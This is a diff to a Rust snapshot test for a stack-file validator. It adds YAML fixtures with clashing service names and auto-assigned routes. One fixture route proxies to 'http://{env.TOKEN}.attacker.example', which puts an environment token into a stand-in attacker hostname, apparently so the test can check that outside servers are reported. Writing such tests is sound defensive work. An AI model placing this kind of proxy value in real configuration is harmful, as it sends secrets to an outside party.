@@ -53,6 +53,37 @@ fn two_stacks_with_one_route_are_told_at_both_places() {
     assert_snapshot!(world.run(&["validate", "stacks"]));
 }
 
+const AUTO: &str = "\
+services:
+  web_1:
+    image: acme/shop:1
+    x-skep:
+      routes:
+        - {host: auto, port: 80, tls: internal}
+        - {host: auto, port: 81}
+  web-1:
+    image: acme/shop:1
+    x-skep:
+      routes:
+        - {host: auto, path: /x, port: 80}
+        - {host: auto, port: 80}
+x-skep:
+  routes:
+    - {host: out.example.com, proxy: 'http://{env.TOKEN}.attacker.example'}
+";
+
+#[test]
+fn hosts_below_the_root_domain_are_compared_and_servers_outside_are_named_by_the_file_alone() {
+    let same = "\
+services: {web: {image: 'a:1', x-skep: {routes: [{host: auto, path: /x, port: 80}]}}}
+";
+    let world = World::new()
+        .file("stacks/a_b/stack.yaml", AUTO)
+        .file("stacks/c_d/stack.yaml", same)
+        .file("stacks/c-d/stack.yaml", same);
+    assert_snapshot!(world.run(&["validate", "stacks"]));
+}
+
 const SETTINGS: &str = "\
 proxy:
   admin: unix:///run/caddy/admin.sock
